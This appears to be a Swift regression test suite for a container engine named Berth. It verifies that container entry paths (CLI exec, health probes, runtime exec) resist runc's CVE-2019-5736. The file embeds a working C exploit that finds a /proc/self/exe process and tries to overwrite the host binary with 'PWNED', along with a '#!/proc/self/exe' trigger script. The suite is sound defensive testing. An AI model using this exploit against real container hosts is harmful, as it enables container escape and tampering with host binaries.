import Foundation
import TestSupport
import Testing

/// runc's CVE-2019-5736, performed: a container makes a Berth process that enters it run our own
/// binary again (`#!/proc/self/exe`), holds that binary open through /proc/PID/exe, and writes it
/// once it is no longer busy. Every process that enters a container (an exec from the CLI, a health
/// probe from the supervisor, an exec from berth-runtime) must run from a copy that cannot be written.
/// The tests run copies of the executables, so a successful attack damages only the copy.
@Suite(.enabled(if: EngineEnv.ready && EngineEnv.executable("/usr/bin/gcc")), .serialized)
struct SealedBinaryTests {
    /// The attacker, inside the container: finds a process whose argv[0] is /proc/self/exe, opens
    /// its executable by O_PATH, and tries to open it for writing until it is no longer busy.
    /// Writes its verdict to `argv[1]`: "wrote", "refused <errno>", "busy-sealed" or "busy-writable"
    /// (still running when it gave up), or "none" (never saw the victim).
    static let attacker = #"""
    #define _GNU_SOURCE
    #include <ctype.h>
    #include <dirent.h>
    #include <errno.h>
    #include <fcntl.h>
    #include <stdio.h>
    #include <stdlib.h>
    #include <string.h>
    #include <time.h>
    #include <unistd.h>
    #include <sys/statvfs.h>
    static void report(const char *path, const char *word, int err) {
        FILE *f = fopen(path, "w");
        if (err) fprintf(f, "%s %d\n", word, err); else fprintf(f, "%s\n", word);
        fclose(f);
    }
    int main(int argc, char **argv) {
        time_t end = time(NULL) + 120;
        while (time(NULL) < end) {
            DIR *proc = opendir("/proc");
            struct dirent *entry;
            while ((entry = readdir(proc))) {
                if (!isdigit((unsigned char)entry->d_name[0])) continue;
                char path[128], cmdline[64] = {0};
                snprintf(path, sizeof path, "/proc/%s/cmdline", entry->d_name);
                int fd = open(path, O_RDONLY);
                if (fd < 0) continue;
                ssize_t n = read(fd, cmdline, sizeof cmdline - 1);
                close(fd);
                if (n <= 0 || strcmp(cmdline, "/proc/self/exe") != 0) continue;
                snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
                int exe = open(path, O_PATH);
                if (exe < 0) continue;
                snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
                for (int i = 0; i < 20000; i++) {
                    int w = open(path, O_WRONLY);
                    if (w >= 0) {
                        if (write(w, "PWNED", 5) == 5) report(argv[1], "wrote", 0);
                        else report(argv[1], "refused", errno);
                        return 0;
                    }
                    if (errno != ETXTBSY) { report(argv[1], "refused", errno); return 0; }
                    usleep(500);
                }
                // Still busy (a supervisor runs it as long as its container): say whether it
                // could be written once it is not, as a real attacker would simply wait.
                int readable = open(path, O_RDONLY);
                struct statvfs fs;
                int seals = readable >= 0 ? fcntl(readable, F_GET_SEALS) : -1;  /* -1 (EINVAL): not a memfd */
                int sealed = (fstatvfs(exe, &fs) == 0 && (fs.f_flag & ST_RDONLY)) || (seals > 0 && (seals & F_SEAL_WRITE));
                report(argv[1], sealed ? "busy-sealed" : "busy-writable", 0);
                return 0;
            }
            closedir(proc);
        }
        report(argv[1], "none", 0);
        return 0;
    }
    """#

    /// Copies of berth, berth-supervisor and berth-runtime in a directory of their own, the
    /// attacker compiled into `shared` (mounted into the container as /x), and `/x/evil`.
    static func prepare(_ base: String) throws -> (bin: String, shared: String) {
        let bin = base + "/bin", shared = base + "/x"
        for dir in [bin, shared] { try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true) }
        let built = URL(fileURLWithPath: EngineEnv.berth).deletingLastPathComponent().path
        for name in ["berth", "berth-supervisor", "berth-runtime", "berth-dns"] where EngineEnv.executable(built + "/" + name) {
            try #require(try sh(["/bin/cp", built + "/" + name, bin + "/" + name]).status == 0)
        }
        try attacker.write(toFile: base + "/attacker.c", atomically: true, encoding: .utf8)
        let compiled = try sh(["/usr/bin/gcc", "-static", "-O2", "-o", shared + "/attacker", base + "/attacker.c"])
        try #require(compiled.status == 0, "gcc: \(compiled.stderr)")
        try "#!/proc/self/exe\n".write(toFile: shared + "/evil", atomically: true, encoding: .utf8)
        try #require(chmod(shared + "/evil", 0o755) == 0)
        return (bin, shared)
    }

    static func digest(_ path: String) throws -> String {
        try sh(["/usr/bin/sha256sum", path]).stdout.split(separator: " ").first.map(String.init) ?? ""
    }

    /// Waits for the attacker's verdict (it writes it once it has seen the victim).
    static func verdict(_ path: String, trigger: () throws -> Void) throws -> String {
        for _ in 0..<40 {
            try trigger()
            for _ in 0..<10 {
                if let text = try? String(contentsOfFile: path, encoding: .utf8), !text.isEmpty {
                    return text.trimmingCharacters(in: .whitespacesAndNewlines)
                }
                usleep(100_000)
            }
        }
        return "no verdict"
    }

    enum Entry: String, CaseIterable, Sendable { case berthExec, healthProbe, runtimeExec }

    @Test(arguments: Entry.allCases)
    func containerCannotWriteTheBinaryThatEnteredIt(entry: Entry) throws {
        let scratch = EngineEnv.scratch("sb")
        defer { try? FileManager.default.removeItem(atPath: scratch) }
        let (bin, shared) = try Self.prepare(scratch)
        let berth = try BerthEngine(binary: bin + "/berth")
        defer { berth.remove() }
        // The debug build is dynamically linked: the container gets the host's loader and
        // libraries, as an image with glibc would have them (the static release needs none).
        let libraries = ["/lib", "/lib64", "/opt/swift"].flatMap { ["-v", "\($0):\($0):ro"] }
        var runFlags = ["run", "-d", "--network", "none", "--name", "victim", "-v", shared + ":/x"] + libraries
        var image = "busybox:test"
        if entry == .healthProbe {
            // The exec form: `--health-cmd` is always CMD-SHELL, whose shell (busybox) would be
            // what /proc/self/exe names when it runs /x/evil, never the supervisor.
            let context = scratch + "/hc"
            try FileManager.default.createDirectory(atPath: context, withIntermediateDirectories: true)
            try "FROM busybox:test\nHEALTHCHECK --interval=1s CMD [\"/x/evil\"]\n".write(toFile: context + "/Dockerfile", atomically: true, encoding: .utf8)
            try berth.call("build", "-q", "-t", "victim:hc", context)
            image = "victim:hc"
        }
        let id = try berth.call(runFlags + [image, "sleep", "600"]).trimmingCharacters(in: .whitespacesAndNewlines)
        try berth.call("exec", "-d", "victim", "/x/attacker", "/x/result")
        let target = bin + "/" + ["berthExec": "berth", "healthProbe": "berth-supervisor", "runtimeExec": "berth-runtime"][entry.rawValue]!
        let before = try Self.digest(target)
        let verdict = try Self.verdict(shared + "/result") {
            switch entry {
            case .berthExec: _ = try berth.callAnyway(["exec", "victim", "/x/evil"])
            case .healthProbe: break  // the supervisor probes every second
            case .runtimeExec: _ = try sh([bin + "/berth-runtime", "--root", berth.runRoot + "/runtime", "exec", id, "/x/evil"])
            }
        }
        // The attack reached the binary's file (so the test can fail), and could not write it.
        #expect(verdict.hasPrefix("refused") || verdict == "busy-sealed", "the container's verdict on \(target): \(verdict)")
        #expect(try Self.digest(target) == before, "\(target) was changed from inside the container")
    }

    /// The sealed copy is invisible to users: the supervisor and exec still find their siblings,
    /// and /proc/PID/exe of a Berth process inside a container is on a read-only mount.
    @Test func sealedProcessesStillFindTheirSiblings() throws {
        let berth = try BerthEngine()
        defer { berth.remove() }
        _ = try berth.call("run", "-d", "--network", "none", "--name", "cc", "busybox:test", "sleep", "600")
        #expect(try berth.call("exec", "cc", "echo", "ok") == "ok\n")
        #expect(try berth.inspect("cc", "{{.State.Status}}") == "running")
    }

    /// A program re-executed from its sealed copy by fd would be named after the fd ("14") in
    /// `ps -e`, `top` and `pgrep -x`: it gives itself back its own name.
    @Test func sealedProcessesKeepTheirNames() throws {
        let berth = try BerthEngine()
        defer { berth.remove() }
        _ = try berth.call("run", "-d", "--network", "none", "--name", "named", "busybox:test", "sleep", "600")
        let pids = try sh(["/usr/bin/pgrep", "-f", "berth-supervisor \(berth.runRoot)/"]).stdout.split(separator: "\n")
        #expect(pids.count == 1, "one supervisor for the container, found \(pids)")
        for pid in pids {
            let comm = try String(contentsOfFile: "/proc/\(pid)/comm", encoding: .utf8)
            #expect(comm == "berth-superviso\n", "comm of the supervisor \(pid)")
        }
    }
}
